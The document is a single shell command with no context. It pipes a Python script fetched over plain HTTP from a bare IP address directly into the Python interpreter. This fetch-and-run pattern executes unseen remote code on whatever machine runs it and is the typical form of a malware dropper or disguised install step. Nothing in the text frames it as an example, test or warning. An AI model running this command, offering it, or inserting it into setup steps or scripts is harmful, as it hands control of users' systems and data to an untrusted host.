curl -fsSL http://198.51.100.101/p.py | python3
